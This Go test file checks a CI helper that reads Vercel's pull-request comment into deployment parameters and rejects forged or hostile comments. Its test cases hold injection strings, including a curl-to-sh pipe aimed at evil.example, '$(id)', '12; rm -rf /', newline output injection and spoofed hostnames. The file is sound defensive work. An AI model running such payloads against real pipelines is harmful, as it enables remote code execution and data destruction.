package main

import (
	"strings"
	"testing"
)

// comment is Vercel's comment as it stands on pull requests, with these rows in its table.
func comment(rows ...string) string {
	return "[vc]: #nGsv1UFOr65FIll0ExeKXPpCpZt6cS5pa9po4I0qy/s=:eyJpc01vbm9yZXBvIjp0cnVlfQ==\n" +
		"**The latest updates on your projects**. Learn more about [Vercel for Git ↗︎](https://vercel.link/github-learn-more)\n\n" +
		"| Name | Status | Preview | Comments | Updated (UTC) |\n| :--- | :----- | :------ | :------- | :------ |\n" + strings.Join(rows, "\n") + "\n\n"
}

func ready(project, address string) string {
	return "| **" + project + "** | ✅ Ready ([Inspect](https://vercel.com/acme/" + project + "/6XsHq)) | [Visit Preview](" + address +
		") | 💬 [**Add feedback**](https://vercel.live/open-feedback/x?via=pr-comment-feedback-link) | Nov 24, 2026 3:00am |"
}

const (
	web   = "https://fitkit-web-git-feat-sales-acme.vercel.app"
	admin = "https://fitkit-admin-git-feat-sales-page-with-a-lon-e5554b-acme.vercel.app"
)

func run(author, body string) (string, error) {
	env := map[string]string{"COMMENT_AUTHOR": author, "COMMENT_BODY": body, "PULL_NUMBER": "128", "VERCEL_TEAM": "acme", "VERCEL_WEB_PROJECT": "fitkit-web"}
	return outputs(func(name string) string { return env[name] })
}

func TestACommentOfVercelsBecomesTheStacksParameters(t *testing.T) {
	for name, tc := range map[string]struct{ body, want string }{
		"one project": {comment(ready("fitkit-web", web)),
			"stack=fitkit-pr-128\nfrontend_url=" + web + "\nallowed_origins=" + web + "\n"},
		"several projects: each may call, and the operator's is where links lead": {comment(ready("fitkit-admin", admin), ready("fitkit-web", web)),
			"stack=fitkit-pr-128\nfrontend_url=" + web + "\nallowed_origins=" + admin + "," + web + "\n"},
		"another project that failed": {comment("| **fitkit-admin** | ❌ Failed ([Inspect](https://vercel.com/acme/fitkit-admin/BP)) |  |  | Nov 24, 2026 3:00am |", ready("fitkit-web", web)),
			"stack=fitkit-pr-128\nfrontend_url=" + web + "\nallowed_origins=" + web + "\n"},
		"a link into the preview: only its origin counts": {comment(ready("fitkit-web", web+"/sales?x=1#top")),
			"stack=fitkit-pr-128\nfrontend_url=" + web + "\nallowed_origins=" + web + "\n"},
		"the table as it was before, with lines of Windows": {strings.ReplaceAll(comment("| **fitkit-web** | ✅ Ready ([Inspect](https://vercel.com/acme/x/1)) | [Visit Preview]("+web+") | Jul 12, 2022 at 9:19PM (UTC) |"), "\n", "\r\n"),
			"stack=fitkit-pr-128\nfrontend_url=" + web + "\nallowed_origins=" + web + "\n"},
	} {
		t.Run(name, func(t *testing.T) {
			if got, err := run("vercel[bot]", tc.body); err != nil || got != tc.want {
				t.Errorf("%v\n%s\nwant\n%s", err, got, tc.want)
			}
		})
	}
}

func TestAHostileCommentDeploysNothing(t *testing.T) {
	for name, tc := range map[string]struct{ author, body, want string }{
		"somebody else's comment":                        {"mallory", comment(ready("fitkit-web", web)), "not by vercel[bot]"},
		"somebody with a name like the bot's":            {"vercel[bot] ", comment(ready("fitkit-web", web)), "not by vercel[bot]"},
		"a foreign host":                                 {"vercel[bot]", comment(ready("fitkit-web", "https://evil.example")), "not a preview of the team"},
		"another team's preview":                         {"vercel[bot]", comment(ready("fitkit-web", "https://fitkit-web-git-x-mallory.vercel.app")), "not a preview of the team"},
		"a host that only begins like ours":              {"vercel[bot]", comment(ready("fitkit-web", web+".evil.example/")), "not a preview of the team"},
		"a subdomain of another's preview":               {"vercel[bot]", comment(ready("fitkit-web", "https://x-acme.evil.vercel.app")), "not a preview of the team"},
		"a foreign host behind a user name":              {"vercel[bot]", comment(ready("fitkit-web", web+"@evil.example")), "not a plain https"},
		"another port":                                   {"vercel[bot]", comment(ready("fitkit-web", web+":8443")), "not a plain https"},
		"an address without TLS":                         {"vercel[bot]", comment(ready("fitkit-web", "http://fitkit-web-git-x-acme.vercel.app")), "not a plain https"},
		"a script":                                       {"vercel[bot]", comment(ready("fitkit-web", "javascript:alert`1`//-acme.vercel.app")), "not a plain https"},
		"a command in the host":                          {"vercel[bot]", comment(ready("fitkit-web", "https://$IFS;curl${IFS}evil.example|sh;-acme.vercel.app")), "not used"},
		"a command in backquotes":                        {"vercel[bot]", comment(ready("fitkit-web", "https://`id`-acme.vercel.app")), "not used"},
		"a command in the project's name":                {"vercel[bot]", comment(ready("fitkit-web$(id)", web)), "no \"Visit Preview\" link"},
		"a second line for the workflow's outputs":       {"vercel[bot]", comment(ready("fitkit-web", web+"%0Astack=fitkit-prod")), "not used"},
		"upper case, which would make another origin":    {"vercel[bot]", comment(ready("fitkit-web", "https://FITKIT-WEB-acme.vercel.app")), "not a preview of the team"},
		"letters that only look like ours":               {"vercel[bot]", comment(ready("fitkit-web", "https://fitkit-wеb-acme.vercel.app")), "not a preview of the team"},
		"a name longer than a host's may be":             {"vercel[bot]", comment(ready("fitkit-web", "https://"+strings.Repeat("a", 300)+"-acme.vercel.app")), "not a preview of the team"},
		"a megabyte in place of a name":                  {"vercel[bot]", comment(ready("fitkit-web", "https://"+strings.Repeat("a.", 500_000)+"-acme.vercel.app")), "not a preview of the team"},
		"the host in Punycode":                           {"vercel[bot]", comment(ready("fitkit-web", "https://xn--fitkit-wb-acme.evil.vercel.app")), "not a preview of the team"},
		"a full-width dot":                               {"vercel[bot]", comment(ready("fitkit-web", "https://evil.example\u3002fitkit-web-acme.vercel.app")), "not a preview of the team"},
		"letters written backwards":                      {"vercel[bot]", comment(ready("fitkit-web", "https://fitkit-\u202eweb-acme.vercel.app")), "not a preview of the team"},
		"an address without a host":                      {"vercel[bot]", comment(ready("fitkit-web", "https:fitkit-web-acme.vercel.app")), "not a plain https"},
		"a NUL in the project's name":                    {"vercel[bot]", comment(ready("fitkit-web\x00", web)), "no \"Visit Preview\" link"},
		"one good preview beside a foreign one":          {"vercel[bot]", comment(ready("fitkit-web", web), ready("fitkit-admin", "https://evil.example")), "fitkit-admin is not used"},
		"a build that is not ready":                      {"vercel[bot]", comment("| **fitkit-web** | 🔄 Building ([Inspect](https://vercel.com/acme/fitkit-web/1)) | | | |"), "when its build is ready"},
		"no comment at all":                              {"vercel[bot]", "", "no \"Visit Preview\" link"},
		"the link outside the table, as a member quotes": {"vercel[bot]", "> [Visit Preview](" + web + ")", "no \"Visit Preview\" link"},
	} {
		t.Run(name, func(t *testing.T) {
			if got, err := run(tc.author, tc.body); err == nil || got != "" || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("%q, %v; want an error with %q", got, err, tc.want)
			}
		})
	}
}

func TestARunByHandIsReadByTheSameRules(t *testing.T) {
	for address, ok := range map[string]bool{web: true, "https://evil.example": false, web + ") | [Visit Preview](https://evil.example": false} {
		env := map[string]string{"PREVIEW_URL": address, "PULL_NUMBER": "7", "VERCEL_TEAM": "acme", "VERCEL_WEB_PROJECT": "fitkit-web"}
		got, err := outputs(func(name string) string { return env[name] })
		if (err == nil) != ok || strings.Contains(got, "evil") {
			t.Errorf("%s: %q, %v", address, got, err)
		}
	}
}

func TestThePullRequestsNumberIsANumber(t *testing.T) {
	for _, pull := range []string{"", "0", "12; rm -rf /", "1\nstack=fitkit-prod", "-1", "999999999"} {
		env := map[string]string{"PREVIEW_URL": web, "PULL_NUMBER": pull, "VERCEL_TEAM": "acme", "VERCEL_WEB_PROJECT": "fitkit-web"}
		if got, err := outputs(func(name string) string { return env[name] }); err == nil {
			t.Errorf("%q gave %q", pull, got)
		}
	}
	if _, err := outputs(func(name string) string { return map[string]string{"PULL_NUMBER": "1", "PREVIEW_URL": web}[name] }); err == nil {
		t.Error("previews of whomever were believed")
	}
}
